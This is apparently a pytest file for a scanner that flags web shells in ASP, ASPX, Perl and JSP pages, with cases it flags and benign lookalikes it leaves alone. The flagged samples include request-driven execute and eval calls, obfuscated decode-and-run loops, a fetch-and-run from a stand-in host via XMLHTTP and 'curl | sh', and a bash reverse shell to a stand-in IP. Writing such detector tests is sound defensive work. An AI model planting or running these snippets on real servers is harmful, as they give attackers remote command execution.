from __future__ import annotations

import pytest

from pratique.content.script.running import Running

RUNS = "page-runs-request"
HEAD = '<%@ Page Language="C#" %>'


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("a.asp", '<%eval request("x")%>', {RUNS: "sure"}),
        ("a.asp", '<%execute(Session("x"))%>', {}),
        ("a.asp", '<%Session("x") = Request("y")\nexecute Trim(Session("x"))%>', {RUNS: "sure"}),
        # Only a name in a text of the page's own.
        ("a.asp", '<%execute "Call Show" & Request("x")%>', {RUNS: "hint"}),
        ("a.asp", '<%execute ";" & Request("x")%>', {RUNS: "sure"}),
        (
            "a.asp",
            '<%Function D(t)\nD = StrReverse(t)\nEnd Function\nexecute D(Request("x"))%>',
            {RUNS: "sure"},
        ),
        (
            "a.asp",
            "<%Function D(t)\nFor i = 1 To Len(t)\nD = D & Chr(Asc(Mid(t, i, 1)) - 1)\nNext\n"
            'End Function\nexecute D("pqrstuvwxyzabcdefghijklmnop" & k)%>',
            {"script-runs-decoded": "sure"},
        ),
        (
            "a.asp",
            "<%For i = 0 To 99\ns = s & Chr(a(i) Xor 7)\nNext\nexecute s%>",
            {"script-runs-decoded": "sure"},
        ),
        (
            "a.asp",
            '<%Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://b.example.net/x"\n'
            "h.Send\nexecute h.responseText%>",
            {"script-runs-remote": "sure"},
        ),
        (
            "a.aspx",
            HEAD + '<% Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; '
            'p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); %>',
            {RUNS: "sure"},
        ),
        ("a.pl", 'my $c = $ENV{QUERY_STRING}; open(F, "|$c");', {RUNS: "sure"}),
        ("a.pl", 'my $c = $ENV{QUERY_STRING}; open(F, $c . "|");', {RUNS: "sure"}),
        ("a.pl", "open(my $f, '-|', $ENV{QUERY_STRING});", {RUNS: "sure"}),
        (
            "a.pl",
            "system('curl -s http://b.example.net/x.sh | sh');",
            {"script-runs-remote": "sure"},
        ),
        (
            "a.pl",
            "system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1');",
            {"script-connects-back": "sure"},
        ),
        (
            "a.jsp",
            '<% Process p = Runtime.getRuntime().exec("/bin/sh"); o = p.getOutputStream(); '
            'o.write(request.getParameter("c").getBytes()); %>',
            {RUNS: "sure"},
        ),
    ],
)
def test_points_at(asked, name, text, expected):
    assert asked(lambda code, flow: Running(code, flow).all(), name, text) == expected


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.asp", '<% conn.Execute(request("x")) %>'),
        ("a.asp", '<% execute "select * from t where n = " & request("x") %>'),
        # A function of the page with the name of one that runs code.
        ("a.asp", '<%Function Execute(q)\nx = q\nEnd Function\nExecute Request("x")%>'),
        ("a.pl", 'open(F, "<$ENV{QUERY_STRING}");'),
        ("a.pl", "open(my $f, '-|', 'ls');"),
        ("a.pl", "system('uptime');"),
        (
            "a.jsp",
            '<% Process p = Runtime.getRuntime().exec("/usr/bin/bc"); o = p.getOutputStream(); '
            'o.write(request.getParameter("c").getBytes()); %>',
        ),
        (
            "a.aspx",
            HEAD + '<% Mail p = new Mail(); Process q; p.FileName = Request["c"]; %>',
        ),
        (
            "a.aspx",
            HEAD + '<% Process p = new Process(); p.StartInfo.Arguments = "/c dir"; p.Start(); %>',
        ),
    ],
)
def test_leaves_alone(asked, name, text):
    assert asked(lambda code, flow: Running(code, flow).all(), name, text) == {}
